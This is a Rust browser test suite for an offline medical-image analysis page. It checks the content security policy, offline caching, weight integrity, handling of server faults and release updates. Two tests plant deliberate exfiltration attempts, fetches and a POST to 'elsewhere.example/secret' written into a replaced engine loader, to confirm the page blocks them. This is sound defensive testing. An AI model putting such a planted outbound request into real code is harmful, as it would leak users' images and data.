//! What the page promises: nothing leaves it, it works offline, releases do not mix, and a bad network or
//! server gives no wrong result. As `browser`: in a real Chromium, on the built site.

mod endurance;
mod engine;
mod faulty;
mod graphics_processor;
mod two_workers;

use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result, ensure};
use browser_tests::visit::{self, Size, Visit};
use browser_tests::{message_kinds as kinds, test_files as files, with_site, with_site_alone};
use faulty::{Fault, Faulty};
use sha2::{Digest, Sha256};

const ENGINE: &str = "document.documentElement.dataset.engine";
const OFFLINE: &str = "document.documentElement.dataset.offline";
const RELEASE: &str = "document.documentElement.dataset.release";

/// The small network alone, so that a visit is quick.
const SMALL: &str = "?backend=cpu&model=custom-cnn";

fn judge_a_sample(visit: &Visit) -> Result<()> {
    let knee = files::knee();
    visit.upload(&[&knee])?;
    visit.wait_for_verdict(&knee)?;
    visit.wait("document.querySelector('.banner[data-role=verdict]')")
}

#[test]
fn a_whole_visit_keeps_to_the_policy_and_the_policy_stops_what_does_not() {
    with_site(|site| {
        let visit = Visit::open_with_script(
            site,
            "?backend=cpu",
            "window.broken = []; addEventListener('securitypolicyviolation', event => \
             window.broken.push(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sourceFile + ':' + event.lineNumber))",
        )?;
        visit.wait_for_engine("cpu")?;
        visit.click("#notice .primary")?;
        judge_a_sample(&visit)?;
        visit.wait("document.querySelector('canvas[data-role=heatmap]').dataset.class")?;
        visit.unfold()?;
        visit.text("(window.print = () => window.printed = true, 'stubbed')")?;
        visit.click("#report-print")?;
        visit.wait("window.printed")?;
        visit.click("#report-data")?;
        visit.wait_for_offline()?;
        let broken = visit.text("window.broken.join('; ')")?;
        ensure!(broken.is_empty(), "{broken}");
        let policy = visit.text("document.querySelector('meta[http-equiv=Content-Security-Policy]').content")?;
        ensure!(
            policy.starts_with("default-src 'none'")
                && !policy.contains("unsafe-inline")
                && !policy.contains("'unsafe-eval'")
        );
        let sent = visit.text("fetch('http://elsewhere.example/').then(() => 'sent', () => 'stopped')")?;
        ensure!(sent == "stopped", "a request to elsewhere was {sent}");
        visit.wait("window.broken.some(one => one.includes('connect-src'))")?;
        Ok(())
    });
}

#[test]
fn the_worker_that_holds_the_picture_cannot_reach_elsewhere() {
    with_site(|site| {
        let copy = files::scratch().join("leaking-site");
        files::copy_folder(site, &copy)?;
        // An engine that tries to send something, and then asks its own site for a file as a sign that it did.
        fs::write(
            copy.join("engine_loader.js"),
            "await fetch('http://elsewhere.example/secret', {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => {}); \
             await fetch(self.name + 'icon.svg?tried')",
        )?;
        let visit = Visit::open(&copy, "?backend=cpu", Size::Desktop)?;
        let tried = |part: &str| visit.asked().iter().any(|one| one.address.contains(part));
        let begun = std::time::Instant::now();
        while !tried("icon.svg?tried") {
            ensure!(begun.elapsed() < visit::PATIENCE, "the worker did not try");
            visit.wait("true")?;
        }
        ensure!(!tried("elsewhere.example"), "the worker reached elsewhere");
        Ok(())
    });
}

#[test]
fn the_list_of_what_was_asked_for_is_that_of_the_server() {
    with_site(|site| {
        let visit = Visit::open(site, SMALL, Size::Desktop)?;
        visit.wait_for_engine("cpu")?;
        visit.click("#notice .primary")?;
        judge_a_sample(&visit)?;
        visit.click("[data-role=traffic] summary")?;
        let listed = "[...document.querySelectorAll('[data-role=traffic] li bdi')].map(one => one.innerText)";
        visit.wait(&format!("{listed}.some(name => name.includes('custom-cnn.weights'))"))?;
        ensure!(visit.text("document.querySelector('[data-role=traffic-sum]').dataset.foreign")? == "0");
        let listed = visit.text(&format!("{listed}.join('\\n')"))?;
        for name in listed.lines() {
            let is_asked = visit.asked().iter().any(|one| one.address.ends_with(name));
            ensure!(is_asked, "{name} is listed, and the server was not asked for it");
        }
        // What a page itself is, and what the service worker fetches for later visits, is on no such list.
        let engine = "engine_bg.wasm";
        for file in ["page_bg.wasm", engine, "weights/manifest.json", "weights/custom-cnn.weights", "style.css"] {
            ensure!(listed.contains(file), "{file} is not listed:\n{listed}");
        }
        Ok(())
    });
}

#[test]
fn after_one_visit_a_reload_without_network_still_analyses() {
    with_site(|site| {
        let server = Faulty::start(site)?;
        let visit = Visit::open_at(&server.address(), "?backend=cpu", Size::Desktop)?;
        visit.click("#notice .primary")?;
        visit.wait_for_offline()?;
        server.go_down();
        server.take_asked();
        visit.reload()?;
        visit.wait_for_engine("cpu")?;
        judge_a_sample(&visit)?;
        visit.click(".samples button")?;
        visit.wait("document.querySelector('.banner[data-file=\"sample-a.png\"]')")?;
        visit.choose("#language", "es")?;
        visit.wait("document.documentElement.lang === 'es'")?;
        Ok(())
    });
}

#[test]
fn weights_are_kept_checked_and_removed() {
    with_site(|site| {
        let server = Faulty::start(site)?;
        let asked_weights = || server.take_asked().into_iter().filter(|(path, _)| path.contains(".weights")).count();
        let visit = Visit::open_at(&server.address(), SMALL, Size::Desktop)?;
        visit.click("#notice .primary")?;
        visit.wait_for_offline()?;
        ensure!(asked_weights() == 1, "the first visit fetches the weights once");
        visit.reload()?;
        visit.wait_for_engine("cpu")?;
        ensure!(asked_weights() == 0, "the second visit has them");
        // A byte that changes on the device is found, and the file is fetched anew.
        visit.text(
            "(async () => { const store = await caches.open('osteolens-weights ' + location.href.split('?')[0]), [request] = await store.keys(); \
             const bytes = new Uint8Array(await (await store.match(request)).arrayBuffer()); bytes[1000] ^= 1; \
             await store.put(request, new Response(bytes)); return 'changed' })()",
        )?;
        visit.reload()?;
        visit.wait_for_engine("cpu")?;
        ensure!(asked_weights() == 1, "a changed file is not used");
        visit.wait_for_offline()?;
        visit.click("#offline-remove")?;
        visit.wait(&format!("{OFFLINE} === 'removed'"))?;
        let kept = visit.text("caches.keys().then(names => names.join())")?;
        ensure!(kept.is_empty(), "{kept} is still kept");
        visit.click(".samples button")?;
        visit.wait("document.querySelector('.banner[data-role=verdict]')")?;
        visit.reload()?;
        visit.wait_for_engine("cpu")?;
        visit.wait("document.querySelector('#offline-keep')")?;
        let kept = visit.text("caches.keys().then(names => names.filter(name => name.includes('weights')).join())")?;
        ensure!(kept.is_empty(), "weights are kept again: {kept}");
        Ok(())
    });
}

#[test]
fn a_server_that_fails_gives_an_error_and_no_verdict() {
    with_site(|site| {
        for (fault, words) in [
            (Fault::Status(404), "status 404"),
            (Fault::Status(500), "status 500"),
            (Fault::Html, "changed or cut off"),
            (Fault::CutOff, "changed or cut off"),
            (Fault::Endless, "changed or cut off"),
        ] {
            let server = Faulty::start(site)?;
            server.fail("custom-cnn.weights", fault);
            let visit = Visit::open_at(&server.address(), SMALL, Size::Desktop)?;
            visit.wait(&format!("{ENGINE} === 'failed'"))?;
            let note = visit.text("document.querySelector('.note').innerText")?;
            ensure!(note.contains(words), "{fault:?}: {note}");
            let knee = files::knee();
            visit.upload(&[&knee])?;
            visit.wait("document.querySelector('[data-verdict=error]')")?;
        }
        Ok(())
    });
}

#[test]
fn a_file_that_something_refuses_is_named_with_what_may_refuse_it() {
    with_site(|site| {
        for file in ["weights/custom-cnn.weights", "weights/manifest.json", "engine_loader.js", "engine.js"] {
            let server = Faulty::start(site)?;
            server.fail(file, Fault::Refuse);
            let visit = Visit::open_at(&server.address(), SMALL, Size::Desktop)?;
            visit.wait(&format!("{ENGINE} === 'failed'"))?;
            let note = visit.text("document.querySelector('.note').innerText")?;
            println!("{file}: {note}");
            ensure!(note.contains("content blocker") && note.contains(file), "{file}: {note}");
            ensure!(!note.contains("http:") && !note.contains("release="), "{file}: a raw address in «{note}»");
        }
        Ok(())
    });
}

#[test]
fn a_connection_that_breaks_is_taken_up_where_it_broke() {
    with_site(|site| {
        let server = Faulty::start(site)?;
        // The large file: of a small one nothing may have come through when the connection breaks.
        server.fail("resnet18.weights", Fault::Break);
        let visit = Visit::open_at(&server.address(), "?backend=cpu&model=resnet18", Size::Desktop)?;
        visit.wait_for_engine("cpu")?;
        let ranges: Vec<String> = server.take_asked().into_iter().filter_map(|(_, range)| range).collect();
        let from = |range: &String| range.strip_prefix("bytes=")?.strip_suffix('-')?.parse::<u64>().ok();
        ensure!(ranges.len() == 1 && ranges.iter().filter_map(from).all(|from| from > 0), "{ranges:?}");
        Ok(())
    });
}

#[test]
fn a_server_that_says_nothing_ends_in_an_error() {
    with_site(|site| {
        let server = Faulty::start(site)?;
        server.fail("custom-cnn.weights", Fault::Stall);
        let visit = Visit::open_at(&server.address(), &format!("{SMALL}&patience=5"), Size::Desktop)?;
        visit.wait(&format!("{ENGINE} !== 'loading'"))?;
        let note = visit.text("document.querySelector('.note').innerText")?;
        ensure!(note.contains("no response for 5 seconds"), "{note}");
        Ok(())
    });
}

/// The same site as another release: its style differs by a comment.
fn next_release(site: &Path) -> Result<PathBuf> {
    let copy = files::scratch().join("next-release");
    files::copy_folder(site, &copy)?;
    let hash =
        |bytes: &[u8]| Sha256::digest(bytes).iter().fold(String::new(), |text, byte| text + &format!("{byte:02x}"));
    let read = |name: &str| fs::read_to_string(copy.join(name)).with_context(|| format!("reading {name}"));
    let (old_style, old_index, old_worker) = (read("style.css")?, read("index.html")?, read("sw.js")?);
    let version =
        old_worker.split("\"version\":\"").nth(1).and_then(|rest| rest.split('"').next()).context("a version")?;
    let style = format!("{old_style}\n/* next */\n");
    // The page names its style with the hash that it must have.
    let start = old_index.find("href=\"./style.css\" integrity=\"").context("a style")?;
    let end = start + old_index[start..].find("/>").context("its end")?;
    let index = format!("{}href=\"./style.css\"{}", &old_index[..start], &old_index[end..])
        .replace(version, "0000000000000002");
    let worker = old_worker
        .replace(version, "0000000000000002")
        .replace(&hash(old_style.as_bytes()), &hash(style.as_bytes()))
        .replace(&hash(old_index.as_bytes()), &hash(index.as_bytes()));
    for (name, text) in [("style.css", style), ("index.html", index), ("sw.js", worker)] {
        fs::write(copy.join(name), text)?;
    }
    Ok(copy)
}

#[test]
fn another_release_is_offered_and_never_mixed_in() {
    const LOOK: &str =
        "navigator.serviceWorker.getRegistration().then(one => one.update()).then(() => 'looked', () => 'failed')";
    with_site(|site| {
        let server = Faulty::start(site)?;
        let visit = Visit::open_at(&server.address(), SMALL, Size::Desktop)?;
        visit.click("#notice .primary")?;
        visit.wait_for_offline()?;
        judge_a_sample(&visit)?;
        let first = visit.text(RELEASE)?;
        // Half of the next release arrives: it is not installed.
        server.serve(&next_release(site)?);
        server.fail("style.css", Fault::Status(500));
        visit.text(LOOK)?;
        let waits = visit.text(
            "navigator.serviceWorker.getRegistration().then(one => new Promise(done => { const look = () => \
             one.installing ? requestAnimationFrame(look) : done(String(!!one.waiting)); look() }))",
        )?;
        ensure!(waits == "false", "half a release waits");
        visit.reload()?;
        visit.wait_for_engine("cpu")?;
        ensure!(visit.text(RELEASE)? == first, "half a release is in use");
        judge_a_sample(&visit)?;
        // The whole arrives: it is offered, and the result stays until it is taken.
        server.mend();
        visit.text(LOOK)?;
        visit.wait(&format!("{OFFLINE} === 'update'"))?;
        ensure!(visit.text(RELEASE)? == first);
        visit.wait("document.querySelector('.banner[data-role=verdict]')")?;
        visit.click("[data-role=update] button")?;
        visit.wait(&format!("{RELEASE} === '0000000000000002'"))?;
        // A tab that is still open on the first release asks for its engine in vain.
        let engine =
            visit.text(&format!("fetch('engine_loader.js?release={first}').then(() => 'given', () => 'refused')"))?;
        ensure!(engine == "refused", "the engine of another release is {engine}");
        visit.wait_for_engine("cpu")?;
        judge_a_sample(&visit)?;
        Ok(())
    });
}
